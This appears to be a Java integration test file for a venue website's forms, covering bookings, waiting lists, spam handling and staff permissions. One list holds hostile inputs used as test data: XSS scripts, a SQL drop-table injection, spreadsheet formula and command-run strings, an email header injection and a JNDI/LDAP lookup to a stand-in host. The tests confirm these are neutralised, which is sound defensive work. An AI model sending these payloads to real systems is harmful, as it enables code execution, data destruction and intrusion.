package venue.server;

import static org.assertj.core.api.Assertions.assertThat;
import static venue.server.Answers.json;

import java.io.IOException;
import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.stream.Collectors;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import tools.jackson.databind.JsonNode;
import venue.core.basics.item.SiteId;
import venue.store.answer.AnswerFilter;

/** Forms over HTTP: filled in from what the page says alone, refused with nothing lost, taken once, worked with by those who may. */
@ServerTest(initializers = MidMinute.class)
class FormsTest {

    private static final SiteId MOOR = new SiteId("kestrel-moor");
    private static final String API = "/api/sites/kestrel-moor/answers";
    private static final String EVIL = "\"><script>alert(1)</script><img src=x onerror=alert(1)>";

    private static final List<String> ATTACKS = List.of(
            EVIL,
            "<svg onload=alert(1)>",
            "';drop table answer;--",
            "=HYPERLINK(\"http://prize.example\")",
            "+1|' /C calc'!A0",
            "@SUM(A1:A9)",
            "-1+1",
            "a\r\nBcc: all@prize.example",
            "{{7*7}} ${jndi:ldap://prize.example} %s%n");

    @As
    private Client stranger;

    @As("maja")
    private Client maja;

    @As("tomas")
    private Client tomas;

    @Autowired
    private venue.store.answer.Answers answers;

    private static String encoded(Map<String, String> form) {
        return form.entrySet().stream()
                .map(e -> URLEncoder.encode(e.getKey(), StandardCharsets.UTF_8) + "="
                        + URLEncoder.encode(e.getValue(), StandardCharsets.UTF_8))
                .collect(Collectors.joining("&"));
    }

    /** What a page's form sends as it stands there, with other things written in it. */
    private Map<String, String> filled(String path, String... written) {
        Map<String, String> form = new TreeMap<>();
        Element there =
                Jsoup.parse(stranger.visit(path).body()).select(".filling form").first();
        assertThat(there).isNotNull();
        there.select("input[type=hidden], input[type=number]").forEach(i -> form.put(i.attr("name"), i.val()));
        for (int i = 0; i < written.length; i += 2) {
            form.put(written[i], written[i + 1]);
        }
        return form;
    }

    private HttpResponse<String> send(String path, Map<String, String> form) {
        return stranger.form(path, encoded(form));
    }

    private HttpResponse<String> books(String night, int people, String who) {
        return send(
                "/book-a-place",
                filled(
                        "/book-a-place",
                        "night",
                        night,
                        "people",
                        "" + people,
                        "name",
                        who,
                        "email",
                        who + "@moor.example",
                        "consent",
                        "yes"));
    }

    private Document after(HttpResponse<String> answer) {
        assertThat(answer.statusCode()).isEqualTo(303);
        return Jsoup.parse(stranger.visit(
                        answer.headers().firstValue("Location").orElseThrow().replaceAll("#.*", ""))
                .body());
    }

    private int count(String form) {
        return answers.count(MOOR, AnswerFilter.of(form));
    }

    @Test
    void whatIsWrongIsSaidAtItsFieldAndNothingWrittenIsLost() {
        int before = count("booking-form");
        HttpResponse<String> refused =
                send("/book-a-place", filled("/book-a-place", "name", EVIL, "email", "priya@halloran", "people", "9"));
        assertThat(refused.statusCode()).isEqualTo(422);
        assertThat(refused.headers().firstValue("Cache-Control")).contains("no-store");
        Document page = Jsoup.parse(refused.body());
        assertThat(page.select(".wrongs li")).hasSize(4);
        assertThat(page.select("#" + page.select("[name=email]").attr("aria-describedby"))
                        .text())
                .contains("“halloran”");
        assertThat(page.select("[name=name]").val()).isEqualTo(EVIL);
        assertThat(page.select(".filling script, .filling img")).isEmpty();
        assertThat(count("booking-form")).isEqualTo(before);

        assertThat(send("/book-a-place", Map.of("-form", "contact-form")).statusCode())
                .isEqualTo(409);
        assertThat(send("/nowhere", Map.of("-form", "booking-form")).statusCode())
                .isEqualTo(404);
        assertThat(stranger.form("/book-a-place", "-form=booking-form", "Origin", "http://evil.example")
                        .statusCode())
                .isEqualTo(403);
        assertThat(stranger.form("/book-a-place", "name=%zz").statusCode()).isEqualTo(400);
        assertThat(stranger.form("/book-a-place", "know=" + "x".repeat(300_000)).statusCode())
                .isEqualTo(413);
    }

    @Test
    void aPlaceIsGivenOnceWaitedForInOrderAndComesFree() {
        HttpResponse<String> first = books("orion", 6, "ada");
        assertThat(after(first).select(".thanks").text()).contains("You have 6 places: Orion for beginners");
        assertThat(books("orion", 6, "ada").headers().firstValue("Location"))
                .as("sent twice")
                .isEqualTo(first.headers().firstValue("Location"));
        Document full = after(books("saturn", 2, "ben"));
        assertThat(full.select(".thanks").text()).contains("You are number 4 in line");
        assertThat(stranger.visit("/visit/open-nights").body()).contains("full · ");

        Map<String, String> back = new TreeMap<>();
        full.select("#form-booking-form input").forEach(i -> back.put(i.attr("name"), i.val()));
        Document given = after(send("/book-a-place", back));
        assertThat(given.select(".thanks").text()).contains("Given back: Saturn");
        assertThat(given.select("#form-booking-form form")).isEmpty();
        assertThat(stranger.visit("/book-a-place?-sent=abcdefgh.AAAAAAAAAAAAAAAA")
                        .body())
                .contains("name=\"night\"");
        String token = back.get("-back");
        assertThat(stranger.visit("/-/answer?of=" + token)
                        .headers()
                        .firstValue("Location")
                        .orElse(""))
                .startsWith("/book-a-place?-sent=" + token);
        assertThat(stranger.visit("/-/answer?of=nobody.x").statusCode()).isEqualTo(404);
    }

    @Test
    void whatLooksLikeSpamIsSetApartAndTooMuchFromOnePlaceIsNotLookedAt() {
        Map<String, String> contact =
                filled("/contact", "name", "Bot", "email", "bot@prize.example", "words", "Buy", "consent", "yes");
        contact.put("-website", "https://prize.example");
        assertThat(send("/contact", contact).statusCode()).isEqualTo(303);
        contact.remove("-website");
        contact.put("words", "=SUM(A1:A9)");
        assertThat(send("/contact", contact).statusCode()).isEqualTo(303);
        JsonNode apart = json(maja.get(API + "/contact-form?which=APART"));
        assertThat(apart.at("/rows/0/apart").asString()).contains("nobody sees");
        String id = apart.at("/rows/0/id").asString();
        assertThat(json(maja.post(API + "/work", Client.json("ids", List.of(id), "apart", false)))
                        .at("/rows/0/apart")
                        .isMissingNode())
                .isTrue();
        String table = maja.get(API + "/contact-form/table").body();
        assertThat(table.lines().findFirst()).contains("number,came,state,stands,line,name,email,words,consent");
        assertThat(table).contains("'=SUM(");
    }

    @Test
    void attacksThroughAnyFieldAreNoMoreThanWords() throws IOException {
        for (String attack : ATTACKS) {
            Map<String, String> form =
                    filled("/contact", "name", attack, "email", attack, "words", attack, "consent", attack);
            HttpResponse<String> refused = send("/contact", form);
            assertThat(refused.statusCode()).as(attack).isEqualTo(422);
            Document page = Jsoup.parse(refused.body());
            assertThat(page.select(".filling script, .filling img, .filling svg"))
                    .isEmpty();
            assertThat(page.select("textarea").val()).isEqualTo(attack.replace("\r", ""));
            form.put("email", "attack@moor.example");
            form.put("consent", "yes");
            assertThat(send("/contact", form).statusCode()).as(attack).isEqualTo(303);
        }
        JsonNode sent = json(maja.get("/api/sites/kestrel-moor/senders?email=attack@moor.example"));
        assertThat(sent.at("/rows").size()).isEqualTo(ATTACKS.size());
        assertThat(sent.at("/rows/0/who").asString()).isEqualTo(ATTACKS.get(ATTACKS.size() - 1));
        String table = maja.get(API + "/contact-form/table").body();
        try (CSVParser rows = CSVParser.parse(table, CSVFormat.DEFAULT)) {
            assertThat(rows).allSatisfy(row -> assertThat(row).noneMatch(cell -> cell.matches("(?s)[=+@\\t\\r-].*")));
        }
        assertThat(table).contains("'=HYPERLINK", "'+1|", "'@SUM", "'-1+1");
    }

    @Test
    void aFormForMembersIsSentByThemAloneAndStandsOnTheirOwnPage() {
        String page = "/visit/groups-and-school-parties";
        Map<String, String> form = filled(
                page,
                "group",
                "The Larks",
                "name",
                "Lark",
                "email",
                "lark@moor.example",
                "day",
                LocalDate.now().plusDays(40).toString(),
                "people",
                "12",
                "consent",
                "yes");
        maja.give("set-value", "item", "group-form", "key", "members", "value", true);
        json(maja.post("/api/sites/kestrel-moor/releases", Client.json("items", List.of("group-form"), "note", "")));
        HttpResponse<String> asked = send(page, form);
        assertThat(asked.statusCode()).isEqualTo(403);
        assertThat(Jsoup.parse(asked.body()).select(".filling a[href^=/-/sign-in]"))
                .hasSize(1);
        HttpResponse<String> in =
                stranger.form("/-/sign-in", "email=friend@kestrel-moor.example&password=" + Client.PASSWORD);
        String cookie = Client.header(in, "Set-Cookie").get(0).replaceAll(";.*", "");
        assertThat(stranger.form(page, encoded(form), "Cookie", cookie).statusCode())
                .isEqualTo(303);
        String mine = stranger.knownBy(cookie, "/-/my-page").body();
        assertThat(Jsoup.parse(mine).select("a[href*=/-/answer]").text()).contains("Ask for a group visit");
        assertThat(json(stranger.knownBy(cookie, "/-/my-page/kept.json"))
                        .at("/sent/0/said/0/answered")
                        .asString())
                .isEqualTo("The Larks");
        assertThat(stranger.visit("/-/my-page/kept.json").statusCode()).isEqualTo(404);
    }

    @Test
    void managersWorkWithAnswersEditorsWithThoseTheyAreGivenAndOthersWithNone() {
        books("geminids", 1, "cem");
        JsonNode told = json(maja.get(API + "/booking-form?which=ALL&q=cem"));
        String id = told.at("/rows/0/id").asString();
        assertThat(told.at("/seats/0/title").asString()).isEqualTo("Saturn’s late show");
        assertThat(json(tomas.get(API)).at("/forms").size()).isZero();
        Stream.of("/booking-form", "/booking-form/table")
                .forEach(at ->
                        assertThat(tomas.get(API + at).statusCode()).as(at).isEqualTo(403));
        assertThat(tomas.post(API + "/work", Client.json("ids", List.of(id), "state", "done"))
                        .statusCode())
                .isEqualTo(403);
        maja.give("set-value", "item", "booking-form", "key", "editors", "value", true);
        JsonNode worked = json(
                tomas.post(API + "/work", Client.json("ids", List.of(id), "state", "Rang back", "note", "By noon")));
        assertThat(worked.at("/rows/0/state").asString()).isEqualTo("rang back");
        assertThat(tomas.post(API + "/remove", Client.json("ids", List.of(id))).statusCode())
                .isEqualTo(403);
        assertThat(maja.post(API + "/" + id + "/give", "{}").statusCode())
                .as("has a place already")
                .isEqualTo(409);
        assertThat(json(maja.post(API + "/move", Client.json("ids", List.of(id), "item", "saturn")))
                        .at("/rows/0/place/stands")
                        .asString())
                .isEqualTo("WAITS");
        assertThat(json(maja.post(API + "/" + id + "/give", "{}"))
                        .at("/place/over")
                        .asBoolean())
                .isTrue();
        assertThat(maja.post(API + "/move", Client.json("ids", List.of(id), "item", "nowhere"))
                        .statusCode())
                .isEqualTo(422);
        assertThat(maja.post(API + "/write", Client.json("ids", List.of(id), "subject", "S", "words", "W"))
                        .statusCode())
                .as("no mail")
                .isEqualTo(409);
        assertThat(maja.post(API + "/work", Client.json("ids", List.of(), "state", "done"))
                        .statusCode())
                .isEqualTo(422);
        assertThat(json(maja.post(API + "/remove", Client.json("ids", List.of(id))))
                        .at("/done")
                        .asInt())
                .isEqualTo(1);
        assertThat(maja.post(API + "/remove", Client.json("ids", List.of(id))).statusCode())
                .isEqualTo(404);
    }
}
